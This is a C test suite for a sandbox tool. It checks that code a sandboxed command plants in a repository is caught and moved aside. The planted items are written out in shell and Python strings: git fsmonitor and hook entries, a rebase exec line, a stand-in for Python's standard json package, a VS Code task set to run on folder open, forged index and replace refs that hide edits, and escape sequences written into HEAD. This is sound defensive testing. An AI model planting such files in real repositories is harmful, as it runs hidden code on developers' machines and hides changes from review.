	CU_ASSERT_FATAL(run_case(&c, "git init -q work/n && chattr +i work/n/.git && echo ok", NULL, NULL,
				 "printf '[core]\\n\\tfsmonitor = " PLANT("ran") "\\n' >> n/.git/config && echo DONE",
				 "chattr -i work/n/.git; stat -c 'mode %a' work/n/.git/config") == 0);
	ok = test_has(c.out, "DONE") && c.status == 1 && test_has(c.host, "mode 0\n");
	CU_ASSERT(ok);
	for (size_t i = 0; want[i] != NULL; i++)
		ok = test_has(c.err, want[i]) && ok;
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}

/*
 * Runs script with sh -c as uid 65534 (setpriv), in env -i with D (a
 * fresh case directory it owns, holding work/ and m/, both its own), M
 * (D/m: the markers), P (a copy of passavant in D: the clone may live
 * where that user cannot reach, as Debian's /root is 0700) and HOME (the
 * suite's). Its stdout and stderr into *out and *err. Returns its exit
 * status, or -2 when the test was skipped (not root, no setpriv).
 */
static int run_as_nobody(const char *script, char **out, char **err)
{
	char d[PATH_MAX], dv[PATH_MAX + 8], home[PATH_MAX + 8], m[PATH_MAX + 8], p[PATH_MAX + 8];
	char bin[PATH_MAX], w[PATH_MAX + 8];
	char *argv[] = {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "-i", dv, home,
			"PATH=" GG_PATH, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t",
			"GIT_AUTHOR_EMAIL=t@example.org", "GIT_COMMITTER_NAME=t",
			"GIT_COMMITTER_EMAIL=t@example.org", "TMPDIR=/tmp", m, p, "sh", "-c", (char *)script,
			NULL};

	*out = *err = NULL;
	if (geteuid() != 0 || access("/usr/bin/setpriv", X_OK) < 0) {
		TEST_SKIP("needs root and setpriv to run as another user");
		return -2;
	}
	snprintf(d, sizeof(d), "%s/c%u", root, ncase++);
	snprintf(dv, sizeof(dv), "D=%s", d);
	snprintf(home, sizeof(home), "HOME=%s/home", root);
	snprintf(m, sizeof(m), "M=%s/m", d);
	snprintf(w, sizeof(w), "%s/work", d);
	CU_ASSERT_FATAL(mkdir(d, 0755) == 0 && chown(d, 65534, 65534) == 0);
	CU_ASSERT_FATAL(snprintf(bin, sizeof(bin), "%s/passavant", d) < (int)sizeof(bin) &&
			test_copy_file(test_passavant_bin(), bin, 0755) == 0);
	snprintf(p, sizeof(p), "P=%s", bin);
	CU_ASSERT_FATAL(mkdir(w, 0755) == 0 && chown(w, 65534, 65534) == 0 && mkdir(m + 2, 0755) == 0 &&
			chown(m + 2, 65534, 65534) == 0);
	return test_run_capture(argv, out, err, GG_TIMEOUT_MS);
}

/* As a user other than root (uid 65534 through setpriv, when the suite
 * runs as root), where modes bind: a planted repository's git directory
 * made unwritable (chmod 555, the rename would fail), and another's
 * parent made unreadable (chmod 000, the walk could not enter). Both
 * configs move aside, the modes are put back. */
static void test_unprivileged_modes(void)
{
	static const char script[] =
		"cd \"$D/work\" && git init -q . && git commit -q --allow-empty -m i && "
		"\"$P\" run -- sh -c 'git init -q a && git -C a config core.fsmonitor \"touch $M/ro555;:\" && "
		"chmod 555 a/.git && mkdir v && git init -q v/b && "
		"git -C v/b config core.fsmonitor \"touch $M/hidden000;:\" && chmod 000 v'; "
		"stat -c 'mode %a' v a/.git; chmod 755 v; "
		"git -C a status >/dev/null 2>&1; git -C v/b status >/dev/null 2>&1; "
		/* round 13: the tree's root itself made unreadable */
		"\"$P\" run -- sh -c 'git init -q c && git -C c config core.fsmonitor \"touch $M/root0300;:\" && "
		"chmod 0300 .' 2>&1; stat -c 'root %a' .; \"$P\" run -- true; echo next=$?; chmod 755 .; "
		"git -C c status >/dev/null 2>&1; ls -A \"$M\"";
	char *out = NULL, *err = NULL;
	int st;

	SKIP_IF_NEEDED();
	if ((st = run_as_nobody(script, &out, &err)) == -2)
		return;
	CU_ASSERT(st == 0);
	CU_ASSERT(test_has(err, "/work/a/.git/config: core.fsmonitor (moved to"));
	CU_ASSERT(test_has(err, "/work/v/b/.git/config: core.fsmonitor (moved to"));
	CU_ASSERT(test_has(out, "mode 0\nmode 555\n"));
	CU_ASSERT(!test_has(out, "ro555") && !test_has(out, "hidden000"));
	CU_ASSERT(test_has(out, "/work/c/.git/config: core.fsmonitor (moved to"));
	CU_ASSERT(test_has(out, "root 300\n") && test_has(out, "next=0\n") && !test_has(out, "root0300"));
	if (!test_has(err, "/work/v/b/.git/config") || test_has(out, "hidden000") || test_has(out, "ro555") ||
	    !test_has(out, "next=0"))
		fprintf(stderr, "\n  status %d\n  stdout: %s\n  stderr: %s\n", st, out ? out : "", err ? err : "");
	free(out);
	free(err);
}

/* Round 30's review, as a user other than root: a hook planted in the
 * core.hooksPath directory of the user's own config, then the directory
 * made 0100 (git still runs a hook through a directory it may only
 * search): the check took the failed open for no hooks. Now it opens
 * its own directory up, moves the hook aside and puts the mode back.
 * The same for a package named like the standard library where Python
 * starts (Python imports through it): opened up the same way (one
 * opener for every directory the check reads), its __init__.py moved
 * aside. */
static void test_unreadable_hooks_path(void)
{
	static const char script[] =
		"cd \"$D/work\" && git init -q . && git commit -q --allow-empty -m i && mkdir .githooks && "
		"git config core.hooksPath .githooks && "
		"\"$P\" run -- sh -c 'printf \"#!/bin/sh\\ntouch $M/hook0100\\n\" > .githooks/pre-commit && "
		"chmod 755 .githooks/pre-commit && chmod 0100 .githooks'; echo status=$?; "
		"stat -c 'mode %a' .githooks; git commit -q --allow-empty -m k; "
		/* a package named like the standard library, where Python
		 * starts, made 0100: Python imports through it */
		"mkdir py && cd py && \"$P\" run -- sh -c 'mkdir json && "
		"echo \"import os; open(os.environ[\\\"M\\\"] + \\\"/py0100\\\", \\\"w\\\")\" > json/__init__.py && "
		"chmod 0100 json'; echo pystatus=$?; python3 -c 'import json' 2>/dev/null; ls -A \"$M\"";
	char *out = NULL, *err = NULL;
	bool ok;
	int st;

	SKIP_IF_NEEDED();
	if ((st = run_as_nobody(script, &out, &err)) == -2)
		return;
	CU_ASSERT(st == 0);
	ok = test_has(err, "/work/.githooks/pre-commit: hook pre-commit (moved to") && test_has(out, "status=0\n") &&
	     test_has(out, "mode 100\n") && !test_has(out, "hook0100") &&
	     test_has(err, "/work/py/json/__init__.py: a package Python's prompt imports from the directory it starts "
			   "in (moved to") &&
	     test_has(out, "pystatus=0\n") && !test_has(out, "py0100") && !test_has(err, "cannot open to check");
	CU_ASSERT(ok);
	if (!ok)
		fprintf(stderr, "\n  stdout: %s\n  stderr: %s\n", out ? out : "", err ? err : "");
	free(out);
	free(err);
}

/* Round 30's review, the family of the test above, as a user other than
 * root: directories the check must read, made unreadable but still
 * searchable by the command: .git/rebase-merge 0300 with an exec in the
 * todo list (ran at the host's git rebase --continue), .git/info 0100
 * with info/attributes naming a filter (stayed), and the directory of a
 * kept config's include 0100 with core.fsmonitor planted in it (reported
 * but left, ran at the next git status). Each is opened up by the one
 * opener (gg_dir_open()), checked, and its mode put back. */
static void test_unreadable_control_dirs(void)
{
	static const char script[] =
		"cd \"$D/work\" && mkdir r i && cd r && git init -q . && echo a > a && git add a && "
		"git commit -qm one && echo b > b && git add b && git commit -qm two && "
		"\"$P\" run -- sh -c 'GIT_SEQUENCE_EDITOR=\"sed -i -e \\\"1i break\\\" -e \\\"1a exec touch "
		"$M/rebase0300\\\"\" git rebase -qi HEAD~1 >/dev/null 2>&1; chmod 0300 .git/rebase-merge'; "
		"echo rstatus=$?; stat -c 'rmode %a' .git/rebase-merge; git rebase --continue >/dev/null 2>&1; "
		/* info 0100 */
		"\"$P\" run -- sh -c 'git init -q sub && echo \"* filter=x\" > sub/.git/info/attributes && "
		"chmod 0100 sub/.git/info'; echo istatus=$?; stat -c 'imode %a' sub/.git/info; "
		"echo a > sub/a; (cd sub && git check-attr filter a); "
		/* an include's directory 0100 */
		"cd ../i && git init -q . && mkdir tools && printf '[core]\\n\\tautocrlf = false\\n' > tools/git.cfg && "
		"git config include.path ../tools/git.cfg && echo a > a && git add a && git commit -qm one && "
		"\"$P\" run -- sh -c 'printf \"[core]\\n\\tfsmonitor = touch $M/include0100\\n\" > tools/git.cfg && "
		"chmod 0100 tools'; echo nstatus=$?; stat -c 'nmode %a' tools; chmod 755 tools; "
		"git status >/dev/null 2>&1; ls -A \"$M\"";
	char *out = NULL, *err = NULL;
	bool ok;
	int st;

	SKIP_IF_NEEDED();
	if ((st = run_as_nobody(script, &out, &err)) == -2)
		return;
	CU_ASSERT(st == 0);
	ok = test_has(err, "/work/r/.git/rebase-merge/git-rebase-todo: rebase todo list with exec") &&
	     test_has(out, "rstatus=0\n") && test_has(out, "rmode 300\n") && !test_has(out, "rebase0300");
	CU_ASSERT(ok);
	ok = test_has(err, "/work/r/sub/.git/info/attributes: info/attributes (selects filter and diff drivers) (moved to") &&
	     test_has(out, "istatus=0\n") && test_has(out, "imode 100\n") && test_has(out, "a: filter: unspecified\n") &&
	     ok;
	CU_ASSERT(ok);
	ok = test_has(err, "/work/i/tools/git.cfg: core.fsmonitor (moved to") && test_has(out, "nstatus=0\n") &&
	     test_has(out, "nmode 100\n") && !test_has(out, "include0100") && ok;
	CU_ASSERT(ok);
	if (!ok)
		fprintf(stderr, "\n  status %d\n  stdout: %s\n  stderr: %s\n", st, out ? out : "", err ? err : "");
	free(out);
	free(err);
}

/*
 * A memory cgroup of limit bytes under ours (cgroup v1's memory hierarchy,
 * or v2 where our parent's subtree has the memory controller): its
 * directory into dir, its cgroup.procs into procs. 0, or -1 when there is
 * none to make here.
 */
static int memory_cgroup(char *dir, size_t dlen, char *procs, size_t plen, unsigned long long limit)
{
	char *cg = test_read_file("/proc/self/cgroup", &(size_t){ 0 }), *line, *save = NULL;
	char own[PATH_MAX] = "", file[2 * PATH_MAX + 64], num[32];
	bool v1 = false;
	int rc = -1;

	for (line = cg != NULL ? strtok_r(cg, "\n", &save) : NULL; line != NULL; line = strtok_r(NULL, "\n", &save)) {
		char *a = strchr(line, ':'), *b = a != NULL ? strchr(a + 1, ':') : NULL;

		if (b == NULL)
			continue;
		*b = '\0';
		if (strcmp(a + 1, "memory") == 0 || (strstr(a + 1, "memory") != NULL && strchr(a + 1, ',') != NULL)) {
			snprintf(own, sizeof(own), "/sys/fs/cgroup/%s%s", a + 1, b + 1);
			v1 = true;
			break;
		}
		if (strcmp(line, "0") == 0 && a[1] == '\0')
			snprintf(own, sizeof(own), "/sys/fs/cgroup%s", b + 1);
	}
	free(cg);
	if (own[0] == '\0')
		return -1;
	if (!v1) {
		char *ctl;

		snprintf(file, sizeof(file), "%s/cgroup.subtree_control", own);
		ctl = test_read_file(file, &(size_t){ 0 });
		if (ctl == NULL || strstr(ctl, "memory") == NULL) {
			free(ctl);
			return -1;
		}
		free(ctl);
	}
	snprintf(dir, dlen, "%s/pv-gitguard-oom-%ld", own, (long)getpid());
	if (mkdir(dir, 0755) < 0 && errno != EEXIST)
		return -1;
	snprintf(num, sizeof(num), "%llu", limit);
	snprintf(file, sizeof(file), "%s/%s", dir, v1 ? "memory.limit_in_bytes" : "memory.max");
	if (test_write_file(file, num, strlen(num)) == 0) {
		snprintf(file, sizeof(file), "%s/memory.swap.max", dir);
		if (!v1 && access(file, F_OK) == 0)
			(void)test_write_file(file, "0", 1);
		snprintf(procs, plen, "%s/cgroup.procs", dir);
		rc = 0;
	}
	if (rc < 0)
		(void)rmdir(dir);
	return rc;
}

/* Whether this process has capability cap in its effective set. */
static bool has_cap(unsigned cap)
{
	char *st = test_read_file("/proc/self/status", &(size_t){ 0 }), *p;
	unsigned long long eff = 0;

	p = st != NULL ? strstr(st, "\nCapEff:") : NULL;
	if (p != NULL)
		eff = strtoull(p + 8, NULL, 16);
	free(st);
	return (eff >> cap & 1) != 0;
}

/*
 * The command fills memory the kernel counts in no process (its private
 * /tmp is a tmpfs) after lowering its own OOM score and trying the
 * init's (and its own, where passavant can lower its own): the OOM
 * killer must take the sandbox, not passavant, so the
 * checks after the run still happen (round 7 of the attack: passavant
 * went, and a planted core.fsmonitor ran on the host's git status).
 * Inside a memory cgroup of 256 MiB where one can be made (cgroup v1, or
 * v2 with the memory controller); everywhere, the scores themselves: 1000
 * for the command and the init, and the init's cannot be lowered.
 */
static void test_oom_takes_sandbox(void)
{
	static const char *const want[] = {"/work/vendor/lib/.git/config: core.fsmonitor", NULL};
	char dir[PATH_MAX + 64], procs[PATH_MAX + 96], inside[1024];
	bool cg, lowerable;
	struct gcase c;

	SKIP_IF_NEEDED();
	cg = memory_cgroup(dir, sizeof(dir), procs, sizeof(procs), 256ull << 20) == 0;
	if (!cg)
		fprintf(stderr, "\n  (no memory cgroup can be made here: the OOM scores are checked, "
				"not an OOM kill)\n");
	/* The command may also lower its own score to 0 first: passavant
	 * then stays out of the kernel's second choice only when it could
	 * lower its own (CAP_SYS_RESOURCE; docs/sandbox.md). */
	lowerable = has_cap(24 /* CAP_SYS_RESOURCE */);
	if (!lowerable)
		fprintf(stderr, "\n  (no CAP_SYS_RESOURCE here: the command keeps its score of 1000; "
				"docs/sandbox.md names the window this leaves)\n");
	cg_procs = cg ? procs : NULL;
	snprintf(inside, sizeof(inside),
		 "mkdir -p vendor/lib && cd vendor/lib && git init -q && "
		 "git commit -q --allow-empty -m x && "
		 "git config core.fsmonitor \"touch \\\"\\$M/fsmonitor\\\";:\" && cd ../.. && "
		 "echo scores $(cat /proc/self/oom_score_adj) $(cat /proc/1/oom_score_adj); "
		 "echo 0 > /proc/1/oom_score_adj 2>/dev/null && echo init-lowered; "
		 "echo 0 > /proc/1/task/1/oom_score_adj 2>/dev/null && echo init-lowered; "
		 "%s%s",
		 lowerable ? "echo 0 > /proc/self/oom_score_adj; " : "",
		 cg ? "head -c 600M /dev/zero > /tmp/fill && echo filled" : "true");
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, inside, GIT_USE("work/vendor/lib")) == 0);
	cg_procs = NULL;
	ROW(test_has(c.out, "scores 1000 1000\n"), "the command and the init do not have OOM score 1000: %s",
	    test_nz(c.out));
	ROW(!test_has(c.out, "init-lowered"), "the command lowered the init's OOM score: %s", test_nz(c.out));
	expect_safe(&c, want);
	if (cg) {
		(void)rmdir(dir);
		/* The sandbox went (SIGKILL), passavant did not: it reported
		 * and checked. */
		ROW(c.status == 128 + 9 && !test_has(c.out, "filled"),
		    "the command filled 600 MiB in a 256 MiB cgroup and was not killed: status %d, %s", c.status,
		    test_nz(c.out));
	}
	gcase_free(&c);
}

/* A case directory holding a Python driver of the host side (name, the
 * len bytes of text) for a test that drives run from outside; its path
 * into drv. False when there is no /usr/bin/python3 (the test returns). */
static bool driver_case(struct gcase *c, const char *name, const char *text, size_t len, char *drv, size_t cap)
{
	if (access("/usr/bin/python3", X_OK) < 0) {
		fprintf(stderr, "\n  SKIP: no /usr/bin/python3 ");
		return false;
	}
	memset(c, 0, sizeof(*c));
	snprintf(c->dir, sizeof(c->dir), "%s/c%u", root, ncase++);
	snprintf(drv, cap, "%s/%s", c->dir, name);
	CU_ASSERT_FATAL(mkdir(c->dir, 0755) == 0);
	CU_ASSERT_FATAL(test_write_file(drv, text, len) == 0);
	return true;
}

/*
 * The command shares passavant's terminal (a pseudo-terminal here, from a
 * Python driver that is its other end and keeps reading it): it plants a
 * settings file, turns off IXON and ISIG (^Q and ^C dead) and suspends
 * the terminal's output (tcflow TCOOFF) before it exits. passavant ends
 * within seconds all the same, with the file moved aside and reported,
 * and the terminal's settings and file status flags as they were before
 * the run. Before the fix passavant blocked for ever in write() on its
 * first "quarantined" line, the file still in place (the driver kills it
 * after 20 s and says HANG).
 */
static const char tty_driver[] =
	"import fcntl, os, select, sys, termios, time\n"
	"INSIDE = r'''\n"
	"import os, termios\n"
	"os.makedirs('sub/.vscode', exist_ok=True)\n"
	"open('sub/.vscode/tasks.json', 'w').write('{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}')\n"
	"try:\n"
	"    fd = os.open('/dev/tty', os.O_RDWR)\n"
	"except OSError:\n"
	"    fd = 0\n"
	"a = termios.tcgetattr(fd)\n"
	"a[0] &= ~(termios.IXON | termios.IXANY)\n"
	"a[3] &= ~termios.ISIG\n"
	"termios.tcsetattr(fd, termios.TCSANOW, a)\n"
	"print('PLANTED', flush=True)\n"
	"termios.tcflow(fd, termios.TCOOFF)\n"
	"'''\n"
	"m, s = os.openpty()\n"
	"before = termios.tcgetattr(s)\n"
	"fl = fcntl.fcntl(s, fcntl.F_GETFL)\n"
	"pid = os.fork()\n"
	"if pid == 0:\n"
	"    os.setsid()\n"
	"    fcntl.ioctl(s, termios.TIOCSCTTY, 0)\n"
	"    for fd in (0, 1, 2):\n"
	"        os.dup2(s, fd)\n"
	"    os.execv(sys.argv[1], [sys.argv[1], 'run', '--', 'python3', '-c', INSIDE])\n"
	"    os._exit(127)\n"
	"out, t0, st = b'', time.monotonic(), None\n"
	"while st is None and time.monotonic() - t0 < 20:\n"
	"    if select.select([m], [], [], 0.2)[0]:\n"
	"        try:\n"
	"            out += os.read(m, 65536)\n"
	"        except OSError:\n"
	"            pass\n"
	"    p, w = os.waitpid(pid, os.WNOHANG)\n"
	"    if p:\n"
	"        st = w\n"
	"if st is None:\n"
	"    os.kill(pid, 9)\n"
	"    os.waitpid(pid, 0)\n"
	"    print('HANG after 20 s')\n"
	"else:\n"
	"    print('exit %d after %.1f s' % (os.waitstatus_to_exitcode(st), time.monotonic() - t0))\n"
	"while select.select([m], [], [], 0.2)[0]:\n"
	"    try:\n"
	"        b = os.read(m, 65536)\n"
	"    except OSError:\n"
	"        break\n"
	"    if not b:\n"
	"        break\n"
	"    out += b\n"
	"after = termios.tcgetattr(s)\n"
	"print('termios', 'same' if after == before else 'changed: %r -> %r' % (before, after))\n"
	"print('flags', 'same' if fcntl.fcntl(s, fcntl.F_GETFL) == fl else 'changed')\n"
	"print('tty output:', out.decode('ascii', 'replace'))\n";

static void test_tty_output_suspended(void)
{
	char drv[PATH_MAX + 16], cmd[2 * PATH_MAX + 64], *out = NULL;
	struct gcase c;
	bool ok;

	SKIP_IF_NEEDED();
	if (!driver_case(&c, "drive.py", tty_driver, sizeof(tty_driver) - 1, drv, sizeof(drv)))
		return;
	CU_ASSERT_FATAL(host_sh(&c, c.dir, "git init -q work && git -C work commit -q --allow-empty -m init && echo ok",
				&out) == 0 && test_has(out, "ok"));
	free(out);
	out = NULL;
	snprintf(cmd, sizeof(cmd), "cd work && python3 ../drive.py '%s' 2>&1", test_passavant_bin());
	CU_ASSERT_FATAL(host_sh(&c, c.dir, cmd, &c.host) == 0);
	ok = test_has(c.host, "exit 0 after ") && test_has(c.host, "termios same\n") &&
	     test_has(c.host, "flags same\n") && test_has(c.host, "PLANTED") &&
	     test_has(c.host, "passavant: quarantined ") &&
	     test_has(c.host, "/work/sub/.vscode/tasks.json: editor or agent settings (moved to ") &&
	     !exists(&c, "work/sub/.vscode/tasks.json") && exists(&c, "work/sub/.vscode/tasks.json.passavant-quarantine");
	CU_ASSERT(ok);
	if (!ok)
		show(&c);
	gcase_free(&c);
}


/*
 * Round 32 (b6): replace refs made in the session hide from git log and
 * show the commit git push sends. A loose one (git replace) moves out of
 * refs/, a packed one leaves packed-refs (the branches stay); info/grafts
 * and objects/info/alternates written in the session move aside.
 */
static void test_replace_refs(void)
{
	static const char *const want[] = {"replace ref made in the session", "/work/n/.git/packed-refs: packed-refs holding replace refs",
					   "/work/n/.git/info/grafts: info/grafts", "/work/n/.git/objects/info/alternates: objects/info/alternates",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "echo a > f && git add f && git commit -q -m reviewed && R=$(git rev-parse HEAD) && "
				 "echo planted > f && git commit -q -a --amend -m pushed && "
				 "git replace $(git rev-parse HEAD) $R && "
				 "git init -q n && cd n && git commit -q --allow-empty -m one && "
				 "git commit -q --allow-empty -m two && git replace HEAD HEAD~1 && git pack-refs --all && "
				 "git rev-parse HEAD > .git/info/grafts && echo /var/tmp > .git/objects/info/alternates && "
				 "echo DONE",
				 "echo \"log: $(git -C work log -1 --format=%s) $(git -C work/n log -1 --format=%s)\"; "
				 "grep -c refs/heads/ work/n/.git/packed-refs; grep -c refs/replace/ work/n/.git/packed-refs; "
				 "git -C work replace -l | wc -l") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* the host's git log now shows what git push sends */
	CU_ASSERT(test_has(c.host, "log: pushed two"));
	CU_ASSERT(test_has(c.host, "1\n0\n0\n"));
	if (!test_has(c.host, "log: pushed two") || !test_has(c.host, "1\n0\n0\n"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 32 (b13): HEAD written in the session as "ref: refs/heads/B" and
 * an escape sequence: git's prompt printed it raw at every host prompt.
 * Moved aside and written again as the ref; a HEAD with no ref to keep
 * moves aside. A stopped rebase's head-name likewise; .git/logs/HEAD (a
 * reflog) is no HEAD.
 */
static void test_head_controls(void)
{
	static const char *const want[] = {"/work/.git/HEAD: HEAD holding control characters",
					   "/work/h/.git/HEAD: HEAD holding control characters",
					   "/work/p/.git/rebase-merge/head-name: a stopped rebase's file", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "B=$(git symbolic-ref HEAD) && git commit -q --allow-empty -m two && "
				 "printf \"ref: $B\\033]52;c;eA==\\007\\n\" > .git/HEAD && "
				 "git init -q h && printf 'x\\033[2J\\n' > h/.git/HEAD && "
				 "git init -q p && cd p && git commit -q --allow-empty -m a && git commit -q --allow-empty -m b && "
				 "GIT_SEQUENCE_EDITOR=\"sed -i '1i break'\" git rebase -q -i HEAD~1 >/dev/null 2>&1; "
				 "printf 'refs/heads/x\\033]0;t\\007\\n' > .git/rebase-merge/head-name; echo DONE",
				 "printf 'head: '; od -An -c work/.git/HEAD | tr -d ' \\n'; echo; git -C work log -1 --format=%s; "
				 "ls work/h/.git | grep -c '^HEAD$'") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, "head: ref:refs/heads/"));
	CU_ASSERT(!test_has(c.host, "033"));
	CU_ASSERT(test_has(c.host, "two\n0\n"));
	CU_ASSERT(!test_has(c.err, "logs/HEAD"));
	if (!test_has(c.host, "two\n0\n") || test_has(c.host, "033") || test_has(c.err, "logs/HEAD"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 32 (b7): skip-worktree or assume-unchanged set in the session on
 * a file it changed hid the change from git status and diff: the index
 * moves aside (git reset makes one from HEAD, the changes show), a
 * submodule's too. Unchanged files marked skip-worktree (sparse work) in
 * an index of version 4 (prefix-compressed names) move nothing.
 */
static void test_index_hides_changes(void)
{
	static const char *const want[] = {"/work/.git/index: an index marking 2 files the session changed",
					   "/work/.git/modules/sub/index: an index marking 1 file", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git init -q lib && git -C lib commit -q --allow-empty -m l && echo v > lib/v.py && "
				 "git -C lib add v.py && git -C lib commit -q -m v && "
				 "cd work && echo t > t.py && echo u > u.py && git add . && git commit -q -m tu && "
				 "git -c protocol.file.allow=always submodule --quiet add \"$PWD/../lib\" sub && "
				 "git commit -q -m sub && "
				 "git init -q n && cd n && git config index.version 4 && mkdir -p d/e && echo x > x && "
				 "echo y > d/e/y && git add . && git commit -q -m x && git update-index --index-version 4",
				 NULL, NULL,
				 "echo planted >> t.py && git update-index --skip-worktree t.py && "
				 "echo planted >> u.py && git update-index --assume-unchanged u.py && "
				 "echo planted >> sub/v.py && git -C sub update-index --skip-worktree v.py && "
				 "git -C n update-index --skip-worktree x d/e/y && echo DONE",
				 "git -C work reset -q; git -C work status --short; git -C work/n ls-files -v; "
				 "git -C work/sub reset -q; git -C work/sub status --short") == 0);
	CU_ASSERT(test_has(c.host, " M v.py"));
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, " M t.py") && test_has(c.host, " M u.py"));
	CU_ASSERT(exists(&c, "work/n/.git/index") && test_has(c.host, "S x") && test_has(c.host, "S d/e/y"));
	CU_ASSERT(!test_has(c.err, "/work/n/.git/index"));
	if (!test_has(c.host, " M t.py") || !test_has(c.host, "S x"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 32's review: `git update-index --split-index`, then
 * --skip-worktree on a changed file. The bit went into the shared index
 * (.git/sharedindex.*), which the check does not read: status clean, no
 * line. A split index written in the session now moves aside.
 */
static void test_index_split_hides(void)
{
	static const char *const want[] = {"/work/.git/index: a split index written in the session", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "cd work && echo t > t.py && git add . && git commit -q -m t", NULL, NULL,
				 "echo planted >> t.py && git update-index --split-index && "
				 "git update-index --skip-worktree t.py && echo DONE",
				 "git -C work reset -q; git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, " M t.py"));
	if (!test_has(c.host, " M t.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 32's review of b7, the same hiding with no bit set: the session
 * edits t.py, lets git add record its times, then writes the old
 * object's name back into the entry (and the index checksum). git
 * trusts the matching times and hashes nothing: status and diff clean
 * (once the index is a second newer than the file: git rehashes a
 * "racily clean" entry). The check hashes such a file (raw) and names
 * the index; a file the session changed and added for real (u.py) says
 * nothing.
 */
static void test_index_forged_times(void)
{
	static const char *const want[] = {"/work/.git/index for planted programs: an index recording 1 file the "
					   "session wrote (t.py) as unchanged by its times",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > forge.py <<'EOF'\n"
				 "import hashlib, sys\n"
				 "old = bytes.fromhex(sys.argv[1])\n"
				 "b = bytearray(open('.git/index', 'rb').read())\n"
				 "off, n = 12, int.from_bytes(b[8:12], 'big')\n"
				 "for _ in range(n):\n"
				 "    nl = b.index(b'\\0', off + 62)\n"
				 "    if b[off + 62:nl] == b't.py':\n"
				 "        b[off + 40:off + 60] = old\n"
				 "    off += (nl - off + 8) & ~7\n"
				 "b = b[:-20]\n"
				 "b += hashlib.sha1(b).digest()\n"
				 "open('.git/index', 'wb').write(b)\n"
				 "EOF\n"
				 "cd work && echo t > t.py && echo u > u.py && git add . && git commit -q -m tu",
				 NULL, NULL,
				 "O=$(git rev-parse HEAD:t.py) && echo planted >> t.py && echo more >> u.py && "
				 "git add t.py u.py && sleep 1.1 && python3 \"$M/../forge.py\" $O && echo DONE",
				 "git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "u.py"));
	/* Round 33: the index the session wrote is rewritten with every
	 * size 0 (gitindex.c), so the host's git status compares t.py's
	 * content and shows the edit the line is about, beside u.py. */
	CU_ASSERT(test_has(c.host, "M  u.py") && test_has(c.host, " M t.py"));
	if (test_has(c.err, "u.py") || !test_has(c.host, "M  u.py") || !test_has(c.host, " M t.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (family R1): an index the session wrote rewritten in place.
 * gi.py, written to CASE by the setup, edits a version 2 index the way
 * the attack did (attack33s's gitidx.py): "oid PATH HEX", "ctimens PATH
 * NS", "drop PATH" (the other extensions kept), "sparsedir DIR TREE" (DIR's
 * entries made one sparse directory entry, skip-worktree, 'sdir'),
 * "treefrom OTHER" (OTHER's cache-tree); the checksum computed again.
 */
#define GI_PY                                                                                                  \
	"cat > gi.py <<'EOF'\n"                                                                                \
	"import hashlib, struct, sys\n"                                                                        \
	"p, op = sys.argv[1], sys.argv[2]\n"                                                                   \
	"def parse(b):\n"                                                                                      \
	"    n = struct.unpack('>I', b[8:12])[0]; off = 12; ents = []\n"                                       \
	"    for _ in range(n):\n"                                                                             \
	"        fl = struct.unpack('>H', b[off+60:off+62])[0]; at = off + 62 + (2 if fl & 0x4000 else 0)\n"  \
	"        nl = b.index(b'\\0', at) - at; end = off + ((at - off + nl + 8) & ~7)\n"                     \
	"        ents.append([b[at:at+nl], bytearray(b[off:end])]); off = end\n"                              \
	"    exts = []\n"                                                                                      \
	"    while off + 8 <= len(b) - 20:\n"                                                                  \
	"        sz = struct.unpack('>I', b[off+4:off+8])[0]; exts.append((b[off:off+4], b[off:off+8+sz])); off += 8 + sz\n" \
	"    return ents, exts\n"                                                                              \
	"b = open(p, 'rb').read(); ents, exts = parse(b); hdr = bytearray(b[:8])\n"                            \
	"if op == 'treefrom':\n"                                                                               \
	"    t = [x for x in parse(open(sys.argv[3], 'rb').read())[1] if x[0] == b'TREE']\n"                   \
	"    exts = t + [x for x in exts if x[0] != b'TREE']\n"                                                \
	"else:\n"                                                                                              \
	"    path = sys.argv[3].encode(); e = [x for x in ents if x[0] == path or x[0].startswith(path + b'/')][0]\n" \
	"    if op == 'oid': e[1][40:60] = bytes.fromhex(sys.argv[4])\n"                                       \
	"    if op == 'ctimens': e[1][4:8] = struct.pack('>I', int(sys.argv[4]))\n"                            \
	"    if op == 'drop': ents.remove(e)\n"                                                                \
	"    if op == 'sparsedir':\n"                                                                          \
	"        d = path + b'/'; ents = [x for x in ents if not x[0].startswith(d)]\n"                        \
	"        body = bytearray(24) + struct.pack('>I', 0o40000) + bytearray(12) + bytes.fromhex(sys.argv[4])\n" \
	"        body += struct.pack('>HH', 0x4000 | len(d), 0x4000) + d; body += b'\\0' * (8 - len(body) % 8)\n" \
	"        ents = sorted(ents + [[d, body]], key=lambda x: x[0]); exts = [x for x in exts if x[0] != b'UNTR'] + [(b'sdir', b'sdir' + bytes(4))]\n" \
	"        hdr[4:8] = struct.pack('>I', 3)\n"                                                            \
